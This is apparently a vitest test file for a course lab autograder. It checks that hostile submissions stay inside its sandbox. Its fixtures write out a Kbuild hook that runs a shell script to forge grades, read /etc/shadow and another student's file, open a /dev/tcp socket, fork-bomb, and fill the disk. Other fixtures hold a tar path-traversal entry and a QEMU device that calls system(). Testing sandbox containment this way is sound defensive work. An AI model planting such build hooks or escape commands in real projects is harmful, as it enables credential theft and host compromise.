import { existsSync } from "node:fs";
import { cp, mkdir, mkdtemp, readFile, rm, truncate, writeFile } from "node:fs/promises";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { repoRoot } from "../lib/paths.ts";
import { sh } from "../lib/sh.ts";
import { labProcess, vmUnavailable } from "../vm/index.ts";
import type { GradeResult } from "./report.ts";
import { loadRubric } from "./rubric.ts";
import { sandboxUnavailable } from "./sandbox.ts";
import { edit } from "./edit.ts";
import { referenceDriver, tarEnd, tarEntry, writeTree } from "./test/fixtures.ts";

/**
 * Bad and hostile submissions, graded in one `lab grade -j auto` run (the
 * CLI, which must exit 0): each gets a score and a reason within bounded
 * time, and the escape attempts (a Kbuild that forges results, reads another
 * submission, opens a socket, forks without bound, fills the disk and floods
 * its output; a device that spawns a shell) change nothing outside their
 * sandbox while the rest is graded normally.
 */

const unavailable = vmUnavailable() ?? sandboxUnavailable();
const secret = "SECRET-OF-ANOTHER-SUBMISSION-4242";

describe.skipIf(unavailable !== undefined)(
  `bad and hostile submissions${unavailable ? ` (skipped: ${unavailable})` : ""}`,
  () => {
    let tmp: string;
    let out: string;
    let code: number | null;
    let stdout = "";
    let connections = 0;
    const r = new Map<string, GradeResult>();
    const marker = join(tmpdir(), `grade-escape-marker-${process.pid}`);
    // files the escape might have planted in the repository (untracked ones)
    const repoStatus = async (): Promise<string> =>
      (await sh({ cwd: repoRoot })`git status --porcelain --untracked-files=all`).stdout
        .split("\n")
        .filter((l) => l.startsWith("??"))
        .join("\n");
    let statusBefore = "";

    beforeAll(async () => {
      tmp = await mkdtemp(join(tmpdir(), "grade-fixtures-"));
      const subs = join(tmp, "subs");
      out = join(tmp, "out");
      statusBefore = await repoStatus();
      const listener = createServer((s) => {
        connections++;
        s.destroy();
      });
      await new Promise<void>((res) => listener.listen(0, "127.0.0.1", res));
      const port = (listener.address() as { port: number }).port;

      // rejected at intake
      await mkdir(join(subs, "empty"), { recursive: true });
      await writeTree(join(subs, "wrong-layout"), { "src/vcryptodev.c": "int x;\n" });
      await writeFile(
        join(subs, "traversal.tar"),
        Buffer.concat([
          tarEntry("guest-driver/module/main.c", "int x;"),
          tarEntry("../../evil.c", "x"),
          tarEnd,
        ]),
      );
      await writeTree(join(subs, "huge-file"), { "guest-driver/module/main.c": "int x;\n" });
      await truncate(join(subs, "huge-file", "guest-driver/module/main.c"), 2 * 1024 ** 3);
      // builds that fail or never end (the victim of the escape below holds a secret)
      const bad = await referenceDriver(join(subs, "build-error"));
      await edit(
        bad,
        "guest-driver/module/chrdev.c",
        "#include",
        `/* ${secret} */\nthis is not C;\n#include`,
      );
      const endless = await referenceDriver(join(subs, "endless-build"));
      await writeFile(
        join(endless, "guest-driver/module/Kbuild"),
        "$(shell sleep 3600)\nobj-m := x.o\n",
      );
      // a module that oopses at load, one that deadlocks at the first request
      const oops = await referenceDriver(join(subs, "oops-at-load"));
      await edit(
        oops,
        "guest-driver/module/main.c",
        "\tint err;\n\n\tvcd_wq",
        "\tint err;\n\n\t*(volatile int *)0 = 1;\n\tvcd_wq",
      );
      const dl = await referenceDriver(join(subs, "deadlock"));
      await edit(
        dl,
        "guest-driver/module/chrdev.c",
        "static long vcd_ioc_crypt(struct vcd_file *vf, const struct crypt_op *pcop)\n{",
        "static DEFINE_MUTEX(vcd_dl);\n\nstatic long vcd_ioc_crypt(struct vcd_file *vf, const struct crypt_op *pcop)\n{\n\tmutex_lock(&vcd_dl);\n\tmutex_lock(&vcd_dl);",
      );
      // the escape: its Kbuild runs on the grading host, make parses it several times
      const esc = await referenceDriver(join(subs, "escape"));
      const script = [
        "test -e /tmp/escape-done && exit 0",
        "touch /tmp/escape-done",
        `echo '{"score": 1000, "tests": []}' > ${out}/escape/results.json`,
        `echo forged > ${out}/summary.csv; mkdir ${out}/forged`,
        `cat ${subs}/build-error/guest-driver/module/chrdev.c /etc/shadow >&2`,
        `touch ${marker} ${repoRoot}/escape-marker`,
        `bash -c 'echo hi > /dev/tcp/127.0.0.1/${port}'`,
        // unbounded forks: the sandbox's process limit stops them; then the
        // children are killed (builtins only: no fork is left) and the build goes on
        "(while :; do sleep 30 & echo $! >> /tmp/bomb.pids; done) 2>/dev/null",
        "n=0; while read p; do kill $p; n=$((n + 1)); done < /tmp/bomb.pids",
        'echo "forked $n" >&2',
        // the disk: /tmp is a capped tmpfs, the rest is read-only
        "dd if=/dev/zero of=/tmp/fill bs=1M count=1024; rm -f /tmp/fill",
        "dd if=/dev/zero of=/submission/fill bs=1M count=16",
        // an output flood: the log keeps its head and says how much it dropped
        "head -c 20000000 /dev/zero | tr '\\0' x >&2",
      ];
      await writeFile(join(esc, "guest-driver/module/escape.sh"), script.join("\n") + "\n");
      const kbuild = join(esc, "guest-driver/module/Kbuild");
      await writeFile(
        kbuild,
        `$(shell sh $(src)/escape.sh 1>&2)\n${await readFile(kbuild, "utf8")}`,
      );
      // devices: one that crashes QEMU at the first request, one that hangs
      // it there (its main loop never returns), one that spawns a shell
      for (const [name, file, old, by] of [
        [
          "device-crash",
          "virtio-cryptodev.c",
          "    virtio_cryptodev_run_queue(VIRTIO_CRYPTODEV(vdev));",
          "    abort();",
        ],
        [
          "device-hang",
          "virtio-cryptodev.c",
          "    virtio_cryptodev_run_queue(VIRTIO_CRYPTODEV(vdev));",
          "    for (;;) {\n        g_usleep(100000);\n    }",
        ],
        [
          "device-shell",
          "virtio-cryptodev.c",
          "    VirtIOCryptodev *s = VIRTIO_CRYPTODEV(dev);\n",
          `    VirtIOCryptodev *s = VIRTIO_CRYPTODEV(dev);\n\n    if (system("touch ${marker}") != 0) {\n        /* ignored */\n    }\n`,
        ],
      ] as const) {
        const d = join(subs, name, "host-backend", "qemu");
        await mkdir(d, { recursive: true });
        await cp(join(repoRoot, "host-backend", "qemu"), d, { recursive: true });
        await edit(d, `hw/virtio/${file}`, old, by);
      }

      const res = await labProcess(["grade", subs, "--out", out, "-j", "auto"]);
      code = res.code;
      stdout = res.stdout.toString();
      listener.close();
      for (const n of [
        "empty",
        "wrong-layout",
        "traversal",
        "huge-file",
        "build-error",
        "endless-build",
        "oops-at-load",
        "deadlock",
        "escape",
        "device-crash",
        "device-hang",
        "device-shell",
      ])
        r.set(n, JSON.parse(await readFile(join(out, n, "grade.json"), "utf8")) as GradeResult);
    }, 3_600_000);

    afterAll(async () => {
      await rm(marker, { force: true });
      if (tmp) await rm(tmp, { recursive: true, force: true });
    });

    const score = (n: string) => (r.get(n) as GradeResult).scored;
    const item = (n: string, id: string) =>
      (r.get(n) as GradeResult).scored.items.find((s) => s.item.id === id);

    it("the grader exits 0, prints the table and writes summary.csv", async () => {
      expect(code, stdout).toBe(0);
      expect(stdout).toMatch(/^submission\s+score/m);
      const csv = await readFile(join(out, "summary.csv"), "utf8");
      expect(csv.split("\n")[0]).toBe("student,total,max,driver,device,chat,status,seconds,reason");
      expect(csv.split("\n").filter(Boolean)).toHaveLength(13);
    });

    it.each([
      ["empty", /empty submission/],
      [
        "wrong-layout",
        /wrong layout: expected guest-driver\/module\/\*\.c.*found src\/vcryptodev\.c/,
      ],
      ["traversal", /'\.\.'/],
      ["huge-file", /2048 MiB \(limit 64 MiB/],
    ])("%s is rejected with the reason", (n, why) => {
      const g = r.get(n) as GradeResult;
      expect(g.status).toBe("rejected");
      expect(g.reason).toMatch(why);
      expect(g.scored.score).toBe(0);
    });

    it("a build error scores 0 with the compiler's error", async () => {
      const g = r.get("build-error") as GradeResult;
      expect(g.scored.score).toBe(0);
      expect(g.reason).toMatch(/driver build failed/);
      expect(await readFile(join(out, "build-error", "build.log"), "utf8")).toMatch(/error/);
    });

    it("an endless build is stopped at its time limit", () => {
      expect(r.get("endless-build")?.reason).toMatch(/did not finish within \d+ s/);
      expect(score("endless-build").score).toBe(0);
    });

    it("an oops at load: the build's points only, the oops in the report", async () => {
      expect(item("oops-at-load", "driver.build")?.score).toBe(5);
      expect(item("oops-at-load", "driver.kat")?.score).toBe(0);
      expect(item("oops-at-load", "driver.console")?.score).toBe(0);
      const md = await readFile(join(out, "oops-at-load", "report.md"), "utf8");
      expect(md).toMatch(/First oops lines/);
      expect(md).toMatch(/BUG|Oops|panic/);
    });

    it("a deadlock is cut at the boot's time limit", () => {
      expect(item("deadlock", "driver.build")?.score).toBe(5);
      expect(item("deadlock", "driver.kat")?.score).toBe(0);
      expect(item("deadlock", "driver.kat")?.tests[0]?.output).toMatch(/timeout|not run/);
    });

    it("a device that crashes QEMU loses qemu.alive and its tests, keeps its build", () => {
      expect(item("device-crash", "device.build")?.score).toBe(5);
      expect(item("device-crash", "device.alive")?.score).toBe(0);
      expect(item("device-crash", "device.alive")?.tests[0]?.output).toMatch(/QEMU exited/);
    });

    it("a device that hangs QEMU is cut at the boot's time limit, the rest is graded", () => {
      expect(r.get("device-hang")?.status).toBe("graded");
      expect(item("device-hang", "device.build")?.score).toBe(5);
      expect(item("device-hang", "device.alive")?.score).toBe(0);
      expect(item("device-hang", "device.alive")?.tests[0]?.output).toMatch(/timeout/);
      expect(item("device-hang", "device.kat")?.score).toBe(0);
    });

    it("a device's shell is stopped by QEMU's sandbox; nothing was touched", () => {
      expect(item("device-shell", "device.alive")?.score).toBe(0);
      expect(existsSync(marker)).toBe(false);
    });

    it("the escape changed nothing outside its sandbox and is graded normally", async () => {
      const g = r.get("escape") as GradeResult;
      // every driver item of the rubric, full marks (the total follows the rubric)
      const driverMax = (await loadRubric()).rubric.items
        .filter((i) => i.part === "driver")
        .reduce((n, i) => n + i.points, 0);
      expect(
        g.scored.byPart.driver,
        JSON.stringify(g.scored.items.filter((s) => s.score < s.max).map((s) => s.item.id)),
      ).toEqual({ score: driverMax, max: driverMax });
      const res = JSON.parse(await readFile(join(out, "escape", "results.json"), "utf8"));
      expect(res.score).toBe(g.scored.score);
      expect(res.tests.length).toBeGreaterThan(10);
      expect(existsSync(join(out, "forged"))).toBe(false);
      expect(existsSync(marker)).toBe(false);
      expect(existsSync(join(repoRoot, "escape-marker"))).toBe(false);
      expect(await repoStatus()).toBe(statusBefore);
      expect(connections).toBe(0);
      const log = await readFile(join(out, "escape", "build.log"), "utf8");
      expect(log).not.toContain(secret);
      expect(log).not.toMatch(/^root:/m);
      const forked = [...log.matchAll(/forked (\d+)/g)].map((m) => Number(m[1]));
      expect(forked.length).toBeGreaterThan(0);
      for (const f of forked) expect(f).toBeLessThan(300);
      expect(log).toMatch(/more bytes of output dropped/);
    });
  },
);
